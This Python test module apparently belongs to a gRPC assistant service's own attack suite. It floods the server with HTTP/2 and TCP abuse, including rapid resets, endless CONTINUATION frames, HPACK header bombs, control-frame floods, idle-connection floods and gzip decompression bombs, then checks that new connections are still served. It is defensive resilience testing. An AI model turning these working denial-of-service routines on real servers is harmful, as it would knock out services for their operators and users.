"""Attacks by connections that misuse HTTP/2 or TCP."""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Iterable, Iterator
from contextlib import AsyncExitStack, suppress

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from palaver.v1 import assistant_service_pb2 as pb
from tests.attack.attack import Attack
from tests.attack.callers import ASSISTANT, PATH, create
from tests.attack.http2 import ATTACKER, connection, grpc_frame
from tests.attack.target import Target

GET = f"{PATH}/GetAssistant"
REQUEST = pb.GetAssistantRequest(id=ASSISTANT).SerializeToString()
HEADERS = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", GET),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
)


FLOOD_TIMEOUT = 5.0
"""Seconds after which a flood ends, if the server no longer reads it."""


async def still_serves(target: Target) -> None:
    """Records it if a new connection is not served."""
    async with target.channel() as channel:
        answer = await target.call("GetAssistant", REQUEST, channel=channel, what="a new connection")
        if answer.status != "OK":
            target.found(f"a new connection is not served: {answer.status} {answer.text}")


async def many_connections(target: Target) -> None:
    """Opens 1,000 connections that say nothing, half a preface, or nothing after the preface."""
    await create(target)
    beginnings = (b"", b"PRI * HTTP", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00", b"GET / HTTP/1.1\r\n")
    async with AsyncExitStack() as stack:
        for number in range(target.count(1_000)):
            _, writer = await asyncio.open_connection(*target.address, local_addr=(ATTACKER, 0))
            stack.callback(writer.transport.abort)
            with suppress(ConnectionError):
                writer.write(beginnings[number % len(beginnings)])
        await still_serves(target)
        await asyncio.sleep(target.seconds(2))  # the time for which the connections are open
    await still_serves(target)


async def short_connections(target: Target) -> None:
    """Opens and closes 5,000 connections, one after the other."""
    await create(target)
    for _ in range(target.count(5_000)):
        _, writer = await asyncio.open_connection(*target.address, local_addr=(ATTACKER, 0))
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        writer.transport.abort()
    await still_serves(target)


async def _flood(target: Target, name: str, frames: Iterable[Frame | bytes]) -> None:
    async with connection(target.address, is_deaf=True) as raw:
        with suppress(asyncio.TimeoutError):
            await asyncio.wait_for(raw.flood(frames), FLOOD_TIMEOUT)
        if raw.is_closed.is_set():
            target.notes.append(f"{name}: cut off")
    await still_serves(target)


async def rapid_reset(target: Target) -> None:
    """Begins calls and resets them at once."""
    await create(target)
    block = hpack.Encoder().encode(HEADERS)
    body = grpc_frame(REQUEST)

    def frames() -> Iterator[Frame]:
        for number in range(target.count(50_000)):
            stream = 2 * number + 1
            yield HeadersFrame(stream, block, flags=["END_HEADERS"])
            yield DataFrame(stream, body, flags=["END_STREAM"])
            yield RstStreamFrame(stream, 8)

    await _flood(target, "rapid resets", frames())


async def endless_headers(target: Target) -> None:
    """Sends headers that go on in CONTINUATION frames and never end."""
    await create(target)
    encoder = hpack.Encoder()

    def frames() -> Iterator[Frame]:
        yield HeadersFrame(1, encoder.encode(HEADERS))
        for number in range(target.count(4_000)):
            field = hpack.NeverIndexedHeaderTuple(f"x-{number}", "x" * 15_000)
            yield ContinuationFrame(1, encoder.encode([field], huffman=False))  # as Huffman codes it takes too long

    def empty() -> Iterator[Frame]:
        yield HeadersFrame(1, b"")
        yield from [ContinuationFrame(1, b"")] * target.count(200_000)

    await _flood(target, "CONTINUATION frames", frames())
    await _flood(target, "empty CONTINUATION frames", empty())


async def much_metadata(target: Target) -> None:
    """Makes calls with as much metadata as the server takes, and with more."""
    await create(target)

    def frames(fields: int, size: int, calls: int) -> Iterator[Frame]:
        encoder = hpack.Encoder()
        for number in range(calls):
            stream = 2 * number + 1
            more = [hpack.NeverIndexedHeaderTuple(f"x-{field}", "x" * size) for field in range(fields)]
            block = encoder.encode([*HEADERS, *more])
            pieces = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
            yield HeadersFrame(stream, pieces[0], flags=["END_HEADERS"] if len(pieces) == 1 else [])
            for place, piece in enumerate(pieces[1:], start=2):
                yield ContinuationFrame(stream, piece, flags=["END_HEADERS"] if place == len(pieces) else [])
            yield DataFrame(stream, grpc_frame(REQUEST), flags=["END_STREAM"])

    for fields, size in ((1, 7_000), (200, 20), (1, 60_000), (2_000, 20)):
        await _flood(target, f"{fields:,} fields of {size:,} bytes", frames(fields, size, target.count(1_000)))


async def header_bomb(target: Target) -> None:
    """Refers to one large header again and again: a few bytes each, which HPACK expands to kilobytes."""
    await create(target)
    encoder = hpack.Encoder()
    first = encoder.encode([*HEADERS, ("x-bomb", "x" * 3_900)])
    again = encoder.encode([("x-bomb", "x" * 3_900)])

    def frames() -> Iterator[Frame]:
        yield HeadersFrame(1, first)
        for _ in range(target.count(1_000)):
            yield ContinuationFrame(1, again * 10_000)

    await _flood(target, "references", frames())


async def control_frames(target: Target) -> None:
    """Sends each kind of frame that is cheap to send and must be answered or counted."""
    await create(target)
    count = target.count(200_000)
    kinds: dict[str, Iterable[Frame]] = {
        "PINGs": [PingFrame(0, b"12345678")] * count,
        "SETTINGS": [SettingsFrame(0, settings={4: 65_535})] * count,
        "empty SETTINGS": [SettingsFrame(0)] * count,
        "PRIORITYs": (PriorityFrame(2 * number + 1, depends_on=0, stream_weight=1) for number in range(count)),
        "WINDOW_UPDATEs": [WindowUpdateFrame(0, window_increment=1)] * count,
        "resets of idle streams": (RstStreamFrame(2 * number + 1, 8) for number in range(count)),
        "empty DATA": [HeadersFrame(1, hpack.Encoder().encode(HEADERS), flags=["END_HEADERS"])]
        + [DataFrame(1, b"")] * count,
    }
    for name, frames in kinds.items():
        await _flood(target, name, frames)


async def garbage(target: Target) -> None:
    """Sends random bytes, with and without a preface."""
    await create(target)
    for number in range(target.count(500)):
        choices = target.choices(number)
        data = choices.randbytes(choices.randrange(1, 4_000))
        _, writer = await asyncio.open_connection(*target.address, local_addr=(ATTACKER, 0))
        with suppress(ConnectionError):
            writer.write((b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" if choices.random() < 0.5 else b"") + data)
            await writer.drain()
        writer.transport.abort()
    await still_serves(target)


async def inflated_messages(target: Target) -> None:
    """Sends compressed messages that inflate to 100 MiB, and messages that claim to be larger than they are."""
    await create(target)
    bomb = gzip.compress(b"\x0a" + b"a" * (100 * 2**20), 9)
    for message in (grpc_frame(bomb, is_compressed=True), grpc_frame(REQUEST, size=2**32 - 1), grpc_frame(b"", size=9)):
        async with connection(target.address) as raw:
            streams = [raw.open(GET, ("grpc-encoding", "gzip")) for _ in range(10)]
            for stream in streams:
                await raw.upload(stream, message)
            await asyncio.sleep(1)  # the time that the server has to inflate them
    await still_serves(target)


ATTACKS = (
    Attack("connections: 1,000 that are idle", many_connections, max_growth=128),
    Attack("connections: 5,000 that are short", short_connections),
    Attack("connections: rapid reset", rapid_reset, max_growth=128),
    Attack("connections: CONTINUATION without end", endless_headers),
    Attack("connections: metadata floods", much_metadata),
    Attack("connections: HPACK bombs", header_bomb),
    Attack("connections: floods of control frames", control_frames, time_limit=180),
    Attack("connections: random bytes", garbage),
    Attack("connections: messages that inflate to 100 MiB", inflated_messages),
)
